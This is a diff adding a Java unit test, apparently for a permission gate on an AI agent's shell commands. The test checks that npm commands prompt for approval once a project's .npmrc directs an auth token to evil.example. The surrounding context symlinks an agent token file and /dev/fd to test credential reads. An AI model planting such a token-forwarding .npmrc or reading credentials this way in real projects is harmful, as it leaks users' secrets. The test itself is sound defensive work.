@@ -181,6 +181,19 @@ class PlanGatePlacesTest {
     }
 
     @Test
+    void asksWhereTheFolderSaysWhichComputerIsSentSecrets() throws IOException {
+        assertThat(bash(shop, "npm view x")).isEqualTo("{}");
+        Files.writeString(folder.resolve(".npmrc"), "fund=false\n");
+        assertThat(bash(shop.resolve("core"), "npm view x")).isEqualTo("{}");
+
+        Files.writeString(shop.resolve(".npmrc"), "//evil.example/:_authToken=${SECRET}\n");
+
+        assertThat(bash(shop, "npm view x")).contains("asks for it");
+        assertThat(bash(shop.resolve("core"), "npm ls")).contains("asks for it");
+        assertThat(bash(folder, "cd shop && npm outdated")).contains("asks for it");
+    }
+
+    @Test
     void asksBeforeAToolReadsCredentials() throws IOException {
         Files.createSymbolicLink(shop.resolve("token"), folder.resolve("home/agent.token"));
         Path process = Files.createSymbolicLink(shop.resolve("p"), Path.of("/dev/fd"));
